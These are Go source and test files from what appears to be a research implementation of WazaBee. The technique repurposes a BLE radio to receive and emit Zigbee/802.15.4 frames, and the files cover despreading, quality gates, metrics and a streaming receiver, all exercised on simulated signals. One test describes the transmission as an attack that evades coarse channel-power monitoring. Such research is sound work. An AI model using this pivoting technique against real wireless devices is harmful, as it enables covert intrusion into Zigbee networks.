	reg.Histogram("wazabee_aa_pattern_errors", obs.LinearBuckets(0, 1, 9), "decoder", "wazabee").
		Observe(float64(cap.PatternErrors))

	endDespread := obs.Stage(reg, r.Trace, "despread")
	dem, err := ieee802154.DecodePPDUFromTransitions(cap.Bits, 0)
	endDespread()
	if err != nil {
		reg.Counter("wazabee_despread_failures_total", "decoder", "wazabee").Inc()
		// A mid-frame abort after a good Access Address match: still
		// "not received", but distinguishable from a sync failure.
		return nil, fmt.Errorf("core: despread after sync: %w", err)
	}
	reg.Histogram("wazabee_worst_chip_distance", obs.DistanceBuckets, "decoder", "wazabee").
		Observe(float64(dem.WorstChipDistance))
	if r.MaxChipDistance > 0 && dem.WorstChipDistance > r.MaxChipDistance {
		reg.Counter("wazabee_quality_gate_drops_total", "decoder", "wazabee").Inc()
		return nil, fmt.Errorf("core: worst chip distance %d exceeds gate %d: %w",
			dem.WorstChipDistance, r.MaxChipDistance, ieee802154.ErrNoSync)
	}
	dem.SyncErrors = cap.PatternErrors
	dem.SampleOffset = cap.SampleOffset
	dem.CFOBias = cap.CFOBias

	reg.Counter("wazabee_frames_received_total", "decoder", "wazabee").Inc()
	result := "pass"
	if !bitstream.CheckFCS(dem.PPDU.PSDU) {
		result = "fail"
	}
	reg.Counter("wazabee_crc_checks_total", "decoder", "wazabee", "result", result).Inc()
	return dem, nil
}

// PHY exposes the underlying BLE modem.
func (r *Receiver) PHY() *ble.PHY {
	return r.phy
}
