package core

import (
	"fmt"

	"wazabee/internal/ble"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
)

// Receiver is the WazaBee reception primitive: a BLE radio configured with
// the MSK preamble pattern as its Access Address, CRC checking disabled
// and whitening bypassed, whose demodulated bit stream is despread by
// Hamming distance into 802.15.4 symbols.
type Receiver struct {
	phy *ble.PHY

	// MaxPatternErrors is the tolerated bit-error count in the 32-bit
	// Access Address correlation (hardware typically allows a few).
	MaxPatternErrors int

	// MaxChipDistance is the despreading quality gate: frames whose
	// worst per-symbol Hamming distance exceeds it are dropped as not
	// received, like a correlation-threshold receiver aborting. Zero
	// disables the gate.
	MaxChipDistance int
}

// NewReceiver wraps a BLE PHY; like the transmitter it requires the 2
// Mbit/s rate.
func NewReceiver(phy *ble.PHY) (*Receiver, error) {
	if phy == nil {
		return nil, fmt.Errorf("core: nil PHY")
	}
	rate, err := phy.Mode.SymbolRate()
	if err != nil {
		return nil, err
	}
	if rate != ieee802154.ChipRate {
		return nil, fmt.Errorf("core: %v runs at %d sym/s; WazaBee needs the %d chip/s rate (use LE 2M)",
			phy.Mode, rate, ieee802154.ChipRate)
	}
	return &Receiver{phy: phy, MaxPatternErrors: 3, MaxChipDistance: 15}, nil
}

// Receive demodulates a capture with the BLE GFSK receiver, locks onto the
// 802.15.4 preamble via the MSK Access Address, splits the bit stream into
// 31-bit blocks and despreads each block to the nearest PN sequence. It
// returns ieee802154.ErrNoSync when no frame is present.
func (r *Receiver) Receive(sig dsp.IQ) (*ieee802154.Demodulated, error) {
	cap, err := r.phy.DemodulateFrame(sig, AccessPattern(), r.MaxPatternErrors)
	if err != nil {
		// Normalise to the PHY-level sentinel so callers classify
		// "not received" uniformly.
		return nil, ieee802154.ErrNoSync
	}
	dem, err := ieee802154.DecodePPDUFromTransitions(cap.Bits, 0)
	if err != nil {
		return nil, err
	}
	if r.MaxChipDistance > 0 && dem.WorstChipDistance > r.MaxChipDistance {
		return nil, ieee802154.ErrNoSync
	}
	dem.SyncErrors = cap.PatternErrors
	dem.SampleOffset = cap.SampleOffset
	dem.CFOBias = cap.CFOBias
	return dem, nil
}

// PHY exposes the underlying BLE modem.
func (r *Receiver) PHY() *ble.PHY {
	return r.phy
}
