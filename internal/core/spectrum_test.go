package core

import (
	"testing"

	"wazabee/internal/ble"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
)

// TestWazaBeeSpectrumFitsChannel verifies the spectral side of the
// attack: the GFSK emission of a WazaBee frame is at least as compact as
// the native O-QPSK signal (the Gaussian filter suppresses sidelobes),
// so the transmission fits the 2 MHz Zigbee channel mask and cannot be
// told apart by a coarse channel-power monitor.
func TestWazaBeeSpectrumFitsChannel(t *testing.T) {
	const sps = 8
	const fftSize = 1024
	payload := make([]byte, 24)
	for i := range payload {
		payload[i] = byte(i * 53)
	}
	chips := ieee802154.Spread(payload)

	zphy, err := ieee802154.NewPHY(sps)
	if err != nil {
		t.Fatal(err)
	}
	oqpsk, err := zphy.ModulateChips(chips)
	if err != nil {
		t.Fatal(err)
	}

	bphy, err := ble.NewPHY(ble.LE2M, sps)
	if err != nil {
		t.Fatal(err)
	}
	msk, err := ConvertChipStream(chips)
	if err != nil {
		t.Fatal(err)
	}
	gfsk, err := bphy.ModulateBits(msk)
	if err != nil {
		t.Fatal(err)
	}

	psdO, err := dsp.PowerSpectralDensity(oqpsk, fftSize)
	if err != nil {
		t.Fatal(err)
	}
	psdG, err := dsp.PowerSpectralDensity(gfsk, fftSize)
	if err != nil {
		t.Fatal(err)
	}

	// The occupied 2 MHz channel is the central 1/8 of the 16 MHz
	// simulated band.
	obwO := dsp.OccupiedBandwidth(psdO, 0.125)
	obwG := dsp.OccupiedBandwidth(psdG, 0.125)
	if obwO < 0.9 {
		t.Errorf("O-QPSK in-channel power fraction = %.3f, want ≥ 0.9", obwO)
	}
	if obwG < 0.95 {
		t.Errorf("GFSK in-channel power fraction = %.3f, want ≥ 0.95", obwG)
	}
	if obwG < obwO-0.01 {
		t.Errorf("GFSK (%.3f) should be at least as channel-compact as O-QPSK (%.3f)", obwG, obwO)
	}
}
