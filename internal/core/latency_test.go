package core

import (
	"fmt"
	"sort"
	"testing"
	"time"

	"wazabee/internal/obs"
)

// latencySeries lists the wazabee_latency_seconds series a registry
// holds with at least one observation (streams pre-resolve their
// histograms, so empty series exist as soon as a stream is built),
// each rendered as its sorted label set, with its observation count.
func latencySeries(reg *obs.Registry) map[string]uint64 {
	out := make(map[string]uint64)
	for _, s := range reg.Snapshot() {
		if s.Name != obs.LatencySecondsMetric || s.Count == 0 {
			continue
		}
		keys := make([]string, 0, len(s.Labels))
		for k := range s.Labels {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		id := ""
		for _, k := range keys {
			id += fmt.Sprintf("%s=%s;", k, s.Labels[k])
		}
		out[id] = s.Count
	}
	return out
}

// TestLatencyStampIdentity proves the one-shot ReceiveStatsAt and a
// chunked RxStream with SetOrigin stamp the identical latency stage
// set with the identical observation counts, so whole-capture and
// streaming deployments of the daemon export comparable
// wazabee_latency_* families.
func TestLatencyStampIdentity(t *testing.T) {
	sig := goldenCapture(t)
	origin := time.Now().Add(-time.Millisecond)

	oneShot, regA := newStreamReceiver(t)
	if _, _, err := oneShot.ReceiveStatsAt(origin, sig); err != nil {
		t.Fatalf("one-shot decode failed: %v", err)
	}

	chunked, regB := newStreamReceiver(t)
	s := chunked.Stream()
	defer s.Close()
	s.SetOrigin(origin)
	const chunk = 257 // deliberately unaligned with symbols and samples-per-chip
	for start := 0; start < len(sig); start += chunk {
		end := start + chunk
		if end > len(sig) {
			end = len(sig)
		}
		s.Push(sig[start:end])
	}
	if _, _, err := s.Flush(); err != nil {
		t.Fatalf("chunked decode failed: %v", err)
	}

	want := latencySeries(regA)
	got := latencySeries(regB)
	if len(want) == 0 {
		t.Fatal("one-shot path observed no latency series at all")
	}
	if _, ok := want["decoder=wazabee;stage=demod;"]; !ok {
		t.Fatalf("one-shot path missing the demod stage: %v", want)
	}
	if len(got) != len(want) {
		t.Fatalf("stage sets differ:\n one-shot %v\n chunked  %v", want, got)
	}
	for id, count := range want {
		if got[id] != count {
			t.Errorf("series %q: chunked count %d, one-shot %d", id, got[id], count)
		}
	}
}

// TestLatencyUnstampedSkipped checks the zero-origin paths (plain
// ReceiveStats, a stream never given SetOrigin) observe nothing into
// the latency family, so replayed and test traffic cannot pollute the
// live SLO histograms.
func TestLatencyUnstampedSkipped(t *testing.T) {
	sig := goldenCapture(t)

	rx, reg := newStreamReceiver(t)
	if _, _, err := rx.ReceiveStats(sig); err != nil {
		t.Fatalf("decode failed: %v", err)
	}
	if series := latencySeries(reg); len(series) != 0 {
		t.Fatalf("unstamped one-shot observed latency series %v", series)
	}

	rx2, reg2 := newStreamReceiver(t)
	if _, _, err := streamReceive(rx2, sig, len(sig)/2); err != nil {
		t.Fatalf("stream decode failed: %v", err)
	}
	if series := latencySeries(reg2); len(series) != 0 {
		t.Fatalf("unstamped stream observed latency series %v", series)
	}
}

// TestLatencyOriginClearedByFlush checks the origin stamp does not leak
// into the next capture: after a stamped Flush, an unstamped capture on
// the same stream must not add demod observations.
func TestLatencyOriginClearedByFlush(t *testing.T) {
	sig := goldenCapture(t)
	rx, reg := newStreamReceiver(t)
	s := rx.Stream()
	defer s.Close()

	s.SetOrigin(time.Now())
	s.Push(sig)
	if _, _, err := s.Flush(); err != nil {
		t.Fatalf("stamped decode failed: %v", err)
	}
	demod := obs.LatencyHistogram(reg, "demod", "decoder", "wazabee")
	if got := demod.Count(); got != 1 {
		t.Fatalf("stamped capture observed %d demod latencies, want 1", got)
	}

	s.Push(sig)
	if _, _, err := s.Flush(); err != nil {
		t.Fatalf("second decode failed: %v", err)
	}
	if got := demod.Count(); got != 1 {
		t.Fatalf("origin stamp leaked into the next capture: %d observations, want 1", got)
	}
}
