package core

import (
	"errors"
	"math"
	"math/rand"
	"testing"

	"wazabee/internal/ble"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
	"wazabee/internal/radio"
)

// oqpskFrame modulates a FCS-sealed PSDU with the legitimate 802.15.4
// PHY — the waveform the reception primitive is assessed against.
func oqpskFrame(t *testing.T, psdu []byte) dsp.IQ {
	t.Helper()
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	sig, err := zigbeePHY(t).Modulate(ppdu)
	if err != nil {
		t.Fatal(err)
	}
	return sig
}

// TestReceiveStatsNoSync: a noise-only capture must still yield a
// finalized stats record (no_sync, LQI 0) and the matching counters.
func TestReceiveStatsNoSync(t *testing.T) {
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	reg := obs.NewRegistry()
	rx.Obs = reg

	noise, err := dsp.NoiseFloor(8000, 0.01, rand.New(rand.NewSource(1)))
	if err != nil {
		t.Fatal(err)
	}
	dem, st, rerr := rx.ReceiveStats(noise)
	if rerr == nil || dem != nil {
		t.Fatal("noise-only capture decoded")
	}
	if !errors.Is(rerr, ieee802154.ErrNoSync) {
		t.Errorf("error %v does not wrap ErrNoSync", rerr)
	}
	if st == nil {
		t.Fatal("stats nil on the no-sync path")
	}
	if st.Synced || st.Result() != "no_sync" {
		t.Errorf("stats = %+v, want unsynced no_sync", st)
	}
	if st.LQI != 0 {
		t.Errorf("no-sync LQI = %d, want 0", st.LQI)
	}
	// The whole-capture RSSI must be populated even without sync:
	// 0.01 total noise power is -20 dBFS.
	if math.Abs(st.RSSIdBFS-(-20)) > 1.5 {
		t.Errorf("no-sync RSSI = %.1f dBFS, want ≈ -20", st.RSSIdBFS)
	}
	if got := reg.Counter("wazabee_sync_failures_total", "decoder", "wazabee").Value(); got != 1 {
		t.Errorf("sync failures counter = %d, want 1", got)
	}
	if got := reg.Counter(link.MetricFrames, "result", "no_sync", "decoder", "wazabee").Value(); got != 1 {
		t.Errorf("link frames{no_sync} counter = %d, want 1", got)
	}
}

// TestReceiveStatsFCSCorrupt: a decodable frame whose FCS does not
// verify must come back Decoded with FCSOK=false and the crc fail
// counter bumped — corruption is the middle class of Table III.
func TestReceiveStatsFCSCorrupt(t *testing.T) {
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	reg := obs.NewRegistry()
	rx.Obs = reg

	psdu := testPSDU(t, []byte{0x41, 0x88, 0x2a, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x07})
	psdu[4] ^= 0xff // corrupt a payload byte after sealing: FCS now wrong
	sig := oqpskFrame(t, psdu)
	padded, err := sig.Pad(200, 200)
	if err != nil {
		t.Fatal(err)
	}
	dem, st, rerr := rx.ReceiveStats(padded)
	if rerr != nil {
		t.Fatalf("clean-channel receive failed: %v", rerr)
	}
	if !st.Decoded || st.Result() != "decoded" {
		t.Errorf("stats = %+v, want decoded", st)
	}
	if st.FCSOK {
		t.Error("FCSOK = true for a corrupted PSDU")
	}
	if dem.Link != st {
		t.Error("Demodulated.Link does not carry the stats record")
	}
	if got := reg.Counter("wazabee_crc_checks_total", "decoder", "wazabee", "result", "fail").Value(); got != 1 {
		t.Errorf("crc fail counter = %d, want 1", got)
	}
	if got := reg.Counter(link.MetricFrames, "result", "decoded", "decoder", "wazabee").Value(); got != 1 {
		t.Errorf("link frames{decoded} counter = %d, want 1", got)
	}
}

// TestReceiveStatsQualityGate: with the gate cranked down and a noisy
// link, a frame whose chips despread above the threshold must be
// dropped as gated, still carrying its chip-error evidence.
func TestReceiveStatsQualityGate(t *testing.T) {
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	rx.MaxChipDistance = 1

	psdu := testPSDU(t, []byte{0x41, 0x88, 0x2a, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x07})
	clean := oqpskFrame(t, psdu)

	for seed := int64(1); seed <= 30; seed++ {
		reg := obs.NewRegistry()
		rx.Obs = reg
		sig := clean.Clone()
		if err := dsp.AddAWGN(sig, 6, rand.New(rand.NewSource(seed))); err != nil {
			t.Fatal(err)
		}
		padded, err := sig.Pad(200, 200)
		if err != nil {
			t.Fatal(err)
		}
		_, st, rerr := rx.ReceiveStats(padded)
		if rerr == nil || !st.Gated {
			continue // this seed despread cleanly or lost sync; try the next
		}
		if !errors.Is(rerr, ieee802154.ErrNoSync) {
			t.Errorf("gate drop error %v does not wrap ErrNoSync", rerr)
		}
		if st.Result() != "gated" {
			t.Errorf("Result() = %q, want gated", st.Result())
		}
		if st.WorstChipDistance <= rx.MaxChipDistance {
			t.Errorf("gated with worst distance %d <= gate %d", st.WorstChipDistance, rx.MaxChipDistance)
		}
		if st.ChipsCompared == 0 {
			t.Error("gated frame carries no chip evidence")
		}
		if got := reg.Counter("wazabee_quality_gate_drops_total", "decoder", "wazabee").Value(); got != 1 {
			t.Errorf("gate drops counter = %d, want 1", got)
		}
		if got := reg.Counter(link.MetricFrames, "result", "gated", "decoder", "wazabee").Value(); got != 1 {
			t.Errorf("link frames{gated} counter = %d, want 1", got)
		}
		return
	}
	t.Fatal("no seed in 1..30 tripped the quality gate at 6 dB SNR with gate 1")
}

// TestReceiveStatsSNRWithinTolerance drives the full pipeline — O-QPSK
// TX, seeded medium at a configured link SNR, WazaBee RX — across an
// SNR sweep and asserts the in-band estimate lands within ±2 dB of the
// configured value on average.
func TestReceiveStatsSNRWithinTolerance(t *testing.T) {
	const sps = 8
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	rx.Obs = obs.NewRegistry()

	psdu := testPSDU(t, []byte{0x41, 0x88, 0x2a, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x07})
	clean := oqpskFrame(t, psdu)
	freq, err := ieee802154.ChannelFrequencyMHz(14)
	if err != nil {
		t.Fatal(err)
	}

	for _, snrDB := range []float64{8, 12, 16, 20} {
		medium, err := radio.NewMedium(float64(sps)*ieee802154.ChipRate, 42)
		if err != nil {
			t.Fatal(err)
		}
		medium.Obs = rx.Obs
		var sum float64
		var n int
		for i := 0; i < 10; i++ {
			capture, err := medium.Deliver(clean, freq, freq,
				radio.Link{SNRdB: snrDB, LeadSamples: 40 * sps, LagSamples: 20 * sps})
			if err != nil {
				t.Fatal(err)
			}
			_, st, rerr := rx.ReceiveStats(capture)
			if rerr != nil || !st.SNRValid {
				continue
			}
			sum += st.SNRdB
			n++
		}
		if n < 5 {
			t.Fatalf("snr %g dB: only %d of 10 frames yielded an estimate", snrDB, n)
		}
		mean := sum / float64(n)
		if math.Abs(mean-snrDB) > 2 {
			t.Errorf("configured %g dB: mean estimate %.2f dB, off by more than 2 dB", snrDB, mean)
		}
	}
}

// TestReceiveStatsCFOEstimate checks the CFO the medium applies comes
// back in the stats record with the right sign and rough magnitude.
func TestReceiveStatsCFOEstimate(t *testing.T) {
	const sps = 8
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	rx.Obs = obs.NewRegistry()

	psdu := testPSDU(t, []byte{0x41, 0x88, 0x2a, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x07})
	clean := oqpskFrame(t, psdu)
	freq, err := ieee802154.ChannelFrequencyMHz(14)
	if err != nil {
		t.Fatal(err)
	}
	medium, err := radio.NewMedium(float64(sps)*ieee802154.ChipRate, 7)
	if err != nil {
		t.Fatal(err)
	}
	const cfoHz = 40_000 // ≈ 16 ppm at 2.4 GHz, within BLE tolerance
	capture, err := medium.Deliver(clean, freq, freq,
		radio.Link{SNRdB: 25, CFOHz: cfoHz, LeadSamples: 40 * sps, LagSamples: 20 * sps})
	if err != nil {
		t.Fatal(err)
	}
	_, st, rerr := rx.ReceiveStats(capture)
	if rerr != nil {
		t.Fatalf("receive failed under 40 kHz CFO: %v", rerr)
	}
	if st.CFOHz < cfoHz/2 || st.CFOHz > cfoHz*2 {
		t.Errorf("estimated CFO %.0f Hz, want within a factor of two of %d Hz", st.CFOHz, cfoHz)
	}
}
