package core

import (
	"bytes"
	"errors"
	"math/rand"
	"sync"
	"testing"

	"wazabee/internal/bitstream"
	"wazabee/internal/ble"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
)

// goldenCapture is a small decodable capture: an FCS-sealed empty-payload
// PSDU modulated with the legitimate O-QPSK PHY and padded with silence,
// sized so the every-offset split test stays fast.
func goldenCapture(t *testing.T) dsp.IQ {
	t.Helper()
	sig := oqpskFrame(t, testPSDU(t, nil))
	padded, err := sig.Pad(200, 100)
	if err != nil {
		t.Fatal(err)
	}
	return padded
}

func newStreamReceiver(t *testing.T) (*Receiver, *obs.Registry) {
	t.Helper()
	rx, err := NewReceiver(blePHY(t, ble.LE2M))
	if err != nil {
		t.Fatal(err)
	}
	reg := obs.NewRegistry()
	rx.Obs = reg
	return rx, reg
}

// streamReceive drives a fresh RxStream with the capture cut at the given
// split offsets (ascending, exclusive of 0 and len) and flushes.
func streamReceive(rx *Receiver, sig dsp.IQ, splits ...int) (*ieee802154.Demodulated, *link.Stats, error) {
	s := rx.Stream()
	defer s.Close()
	prev := 0
	for _, cut := range splits {
		s.Push(sig[prev:cut])
		prev = cut
	}
	s.Push(sig[prev:])
	return s.Flush()
}

// identityCounters are the one-shot path's observable side effects the
// streaming path must reproduce exactly.
var identityCounters = [][]string{
	{"wazabee_frames_received_total", "decoder", "wazabee"},
	{"wazabee_sync_failures_total", "decoder", "wazabee"},
	{"wazabee_despread_failures_total", "decoder", "wazabee"},
	{"wazabee_quality_gate_drops_total", "decoder", "wazabee"},
	{"wazabee_crc_checks_total", "decoder", "wazabee", "result", "pass"},
	{"wazabee_crc_checks_total", "decoder", "wazabee", "result", "fail"},
	{link.MetricFrames, "result", "decoded", "decoder", "wazabee"},
	{link.MetricFrames, "result", "no_sync", "decoder", "wazabee"},
	{link.MetricFrames, "result", "gated", "decoder", "wazabee"},
}

// assertIdentical fails unless the streaming outcome (dem/stats/error and
// every identity counter) is byte-identical to the one-shot reference.
func assertIdentical(t *testing.T, label string,
	wantDem *ieee802154.Demodulated, wantSt *link.Stats, wantErr error, wantReg *obs.Registry,
	gotDem *ieee802154.Demodulated, gotSt *link.Stats, gotErr error, gotReg *obs.Registry) {
	t.Helper()
	if (wantErr == nil) != (gotErr == nil) {
		t.Fatalf("%s: error %v, one-shot %v", label, gotErr, wantErr)
	}
	if wantErr != nil {
		if gotErr.Error() != wantErr.Error() {
			t.Fatalf("%s: error %q, one-shot %q", label, gotErr, wantErr)
		}
		if errors.Is(wantErr, ieee802154.ErrNoSync) != errors.Is(gotErr, ieee802154.ErrNoSync) {
			t.Fatalf("%s: ErrNoSync chain mismatch", label)
		}
	}
	if (wantDem == nil) != (gotDem == nil) {
		t.Fatalf("%s: dem nil-ness mismatch", label)
	}
	if wantDem != nil {
		if !bytes.Equal(gotDem.PPDU.PSDU, wantDem.PPDU.PSDU) {
			t.Fatalf("%s: PSDU % x, one-shot % x", label, gotDem.PPDU.PSDU, wantDem.PPDU.PSDU)
		}
		if gotDem.SyncErrors != wantDem.SyncErrors || gotDem.SampleOffset != wantDem.SampleOffset ||
			gotDem.CFOBias != wantDem.CFOBias || gotDem.SyncCorr != wantDem.SyncCorr ||
			gotDem.WorstChipDistance != wantDem.WorstChipDistance ||
			gotDem.TotalChipDistance != wantDem.TotalChipDistance ||
			gotDem.ChipDistHist != wantDem.ChipDistHist ||
			gotDem.TransitionSpan != wantDem.TransitionSpan {
			t.Fatalf("%s: dem evidence differs:\n got %+v\nwant %+v", label, gotDem, wantDem)
		}
		if gotDem.Link != gotSt {
			t.Fatalf("%s: Demodulated.Link does not carry the stats record", label)
		}
	}
	if gotSt == nil || wantSt == nil {
		t.Fatalf("%s: nil stats (got %v, want %v)", label, gotSt, wantSt)
	}
	if *gotSt != *wantSt {
		t.Fatalf("%s: stats differ:\n got %+v\nwant %+v", label, *gotSt, *wantSt)
	}
	for _, series := range identityCounters {
		want := wantReg.Counter(series[0], series[1:]...).Value()
		if got := gotReg.Counter(series[0], series[1:]...).Value(); got != want {
			t.Fatalf("%s: counter %v = %d, one-shot %d", label, series, got, want)
		}
	}
}

// TestStreamEveryOffsetIdentity is the chunk-boundary acceptance test:
// the golden capture is split into two Pushes at every sample offset —
// mid-preamble, mid-symbol, mid-FCS — and each streaming decode must be
// byte-identical to the whole-capture ReceiveStats, including stats,
// error chains and metric side effects.
func TestStreamEveryOffsetIdentity(t *testing.T) {
	sig := goldenCapture(t)
	oneShot, refReg := newStreamReceiver(t)
	wantDem, wantSt, wantErr := oneShot.ReceiveStats(sig)
	if wantErr != nil {
		t.Fatalf("golden capture does not decode one-shot: %v", wantErr)
	}

	for cut := 1; cut < len(sig); cut++ {
		rx, reg := newStreamReceiver(t)
		dem, st, err := streamReceive(rx, sig, cut)
		assertIdentical(t, "", wantDem, wantSt, wantErr, refReg, dem, st, err, reg)
		if t.Failed() {
			t.Fatalf("split offset %d of %d diverged", cut, len(sig))
		}
	}
}

// TestStreamChunkSizeWalk feeds the capture in uniform chunks of every
// size from 1 to 33 samples (and a few larger ones) — every alignment of
// chunk boundaries relative to symbol windows — asserting identity.
func TestStreamChunkSizeWalk(t *testing.T) {
	sig := goldenCapture(t)
	oneShot, refReg := newStreamReceiver(t)
	wantDem, wantSt, wantErr := oneShot.ReceiveStats(sig)
	if wantErr != nil {
		t.Fatal(wantErr)
	}

	sizes := make([]int, 0, 36)
	for n := 1; n <= 33; n++ {
		sizes = append(sizes, n)
	}
	sizes = append(sizes, 255, 1000, len(sig))
	for _, n := range sizes {
		var splits []int
		for cut := n; cut < len(sig); cut += n {
			splits = append(splits, cut)
		}
		rx, reg := newStreamReceiver(t)
		dem, st, err := streamReceive(rx, sig, splits...)
		assertIdentical(t, "", wantDem, wantSt, wantErr, refReg, dem, st, err, reg)
		if t.Failed() {
			t.Fatalf("chunk size %d diverged", n)
		}
	}
}

// TestStreamErrorPathIdentity covers the "not received" verdicts: each
// must reproduce the one-shot error chain, stats record and counters.
func TestStreamErrorPathIdentity(t *testing.T) {
	noise, err := dsp.NoiseFloor(8000, 0.01, rand.New(rand.NewSource(1)))
	if err != nil {
		t.Fatal(err)
	}
	golden := goldenCapture(t)

	cases := []struct {
		name string
		sig  dsp.IQ
	}{
		// Noise only: the ErrNoSync + ErrNoAccessAddress chain.
		{"no_sync_noise", noise},
		// Shorter than the (pattern+2)·sps one-shot minimum: must refuse
		// identically even though streaming has no such intrinsic bound.
		{"too_short", golden[:200]},
		// Truncated mid-frame: sync succeeds, despreading runs out of
		// bits — the "despread after sync" truncation verdict.
		{"truncated", golden[:len(golden)-2000]},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			oneShot, refReg := newStreamReceiver(t)
			wantDem, wantSt, wantErr := oneShot.ReceiveStats(tc.sig)
			if wantErr == nil {
				t.Fatalf("reference decode unexpectedly succeeded (len=%d)", len(tc.sig))
			}
			for _, n := range []int{1, 17, 333, len(tc.sig)} {
				var splits []int
				for cut := n; cut < len(tc.sig); cut += n {
					splits = append(splits, cut)
				}
				rx, reg := newStreamReceiver(t)
				dem, st, serr := streamReceive(rx, tc.sig, splits...)
				assertIdentical(t, tc.name, wantDem, wantSt, wantErr, refReg, dem, st, serr, reg)
			}
		})
	}
}

// TestStreamQualityGateIdentity: a frame the one-shot receiver drops at
// the chip-distance gate must be dropped identically by the stream.
func TestStreamQualityGateIdentity(t *testing.T) {
	clean := oqpskFrame(t, testPSDU(t, []byte{0x41, 0x88, 0x2a, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x07}))
	for seed := int64(1); seed <= 30; seed++ {
		sig := clean.Clone()
		if err := dsp.AddAWGN(sig, 6, rand.New(rand.NewSource(seed))); err != nil {
			t.Fatal(err)
		}
		padded, err := sig.Pad(200, 200)
		if err != nil {
			t.Fatal(err)
		}
		oneShot, refReg := newStreamReceiver(t)
		oneShot.MaxChipDistance = 1
		wantDem, wantSt, wantErr := oneShot.ReceiveStats(padded)
		if wantErr == nil || !wantSt.Gated {
			continue // this seed decoded cleanly or lost sync; try the next
		}
		for _, n := range []int{97, 1024} {
			var splits []int
			for cut := n; cut < len(padded); cut += n {
				splits = append(splits, cut)
			}
			rx, reg := newStreamReceiver(t)
			rx.MaxChipDistance = 1
			dem, st, serr := streamReceive(rx, padded, splits...)
			assertIdentical(t, "gated", wantDem, wantSt, wantErr, refReg, dem, st, serr, reg)
		}
		return
	}
	t.Fatal("no seed in 1..30 tripped the quality gate at 6 dB SNR with gate 1")
}

// TestStreamPushEmitsFrame: Push must hand the frame out the moment its
// despreading completes — before the capture ends — and the finalizing
// Flush must attach the Link stats to that same frame object.
func TestStreamPushEmitsFrame(t *testing.T) {
	sig := goldenCapture(t)
	rx, _ := newStreamReceiver(t)
	s := rx.Stream()
	defer s.Close()

	var emitted *ieee802154.Demodulated
	var emittedAt int
	const chunk = 64
	for start := 0; start < len(sig); start += chunk {
		end := start + chunk
		if end > len(sig) {
			end = len(sig)
		}
		for _, dem := range s.Push(sig[start:end]) {
			if emitted != nil {
				t.Fatal("frame emitted twice")
			}
			emitted, emittedAt = dem, end
		}
	}
	if emitted == nil {
		t.Fatal("no frame emitted by Push")
	}
	if emittedAt >= len(sig) {
		t.Error("frame only emitted by the final chunk; expected early emission before the capture tail")
	}
	if emitted.Link != nil {
		t.Error("Link stats attached before Flush (noise floor needs the capture tail)")
	}
	dem, st, err := s.Flush()
	if err != nil {
		t.Fatal(err)
	}
	if dem != emitted {
		t.Error("Flush returned a different frame object than Push emitted")
	}
	if emitted.Link != st {
		t.Error("Flush did not attach the stats record to the emitted frame")
	}
	if s.Pending() != 0 {
		t.Errorf("Pending() = %d after Flush, want 0", s.Pending())
	}
}

// TestStreamSteadyStateAllocs is the zero-allocation acceptance test:
// once buffers are warm, Push must not allocate at all.
func TestStreamSteadyStateAllocs(t *testing.T) {
	rx, _ := newStreamReceiver(t)
	rx.MaxPatternErrors = 0 // keep random noise from ever syncing
	noise, err := dsp.NoiseFloor(256, 0.01, rand.New(rand.NewSource(9)))
	if err != nil {
		t.Fatal(err)
	}

	s := rx.Stream()
	defer s.Close()
	const runs = 120
	// Warm-up: push more than the measured volume so every internal slab
	// reaches its steady-state capacity, then Flush (which keeps
	// capacity) to rewind.
	for i := 0; i < runs+10; i++ {
		s.Push(noise)
	}
	s.Flush()

	allocs := testing.AllocsPerRun(runs-1, func() {
		s.Push(noise)
	})
	if allocs != 0 {
		t.Errorf("steady-state Push allocates %v per call, want 0", allocs)
	}
	if _, st, err := s.Flush(); err == nil || st == nil {
		t.Error("noise-only flush should report no_sync with stats")
	}
}

// TestStreamConcurrentChannels runs one stream per goroutine plus
// concurrent ReceiveStats calls on a shared Receiver — the multi-channel
// fan-out of the Table III harness. Run under -race by make ci.
func TestStreamConcurrentChannels(t *testing.T) {
	sig := goldenCapture(t)
	rx, _ := newStreamReceiver(t)
	want, _, err := rx.ReceiveStats(sig)
	if err != nil {
		t.Fatal(err)
	}

	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			if g%2 == 0 {
				// Dedicated per-channel stream.
				s := rx.Stream()
				defer s.Close()
				chunk := 37 + g*13
				for start := 0; start < len(sig); start += chunk {
					end := start + chunk
					if end > len(sig) {
						end = len(sig)
					}
					s.Push(sig[start:end])
				}
				dem, _, err := s.Flush()
				if err != nil {
					t.Errorf("goroutine %d: %v", g, err)
					return
				}
				if !bytes.Equal(dem.PPDU.PSDU, want.PPDU.PSDU) {
					t.Errorf("goroutine %d: PSDU mismatch", g)
				}
			} else {
				// Whole-capture calls share the Receiver.
				dem, _, err := rx.ReceiveStats(sig)
				if err != nil {
					t.Errorf("goroutine %d: %v", g, err)
					return
				}
				if !bytes.Equal(dem.PPDU.PSDU, want.PPDU.PSDU) {
					t.Errorf("goroutine %d: PSDU mismatch", g)
				}
			}
		}(g)
	}
	wg.Wait()
}

// fuzzGolden lazily builds the fuzz corpus capture and its one-shot
// expectation (fuzz functions may run in parallel processes; each builds
// its own).
var fuzzGolden struct {
	once sync.Once
	sig  dsp.IQ
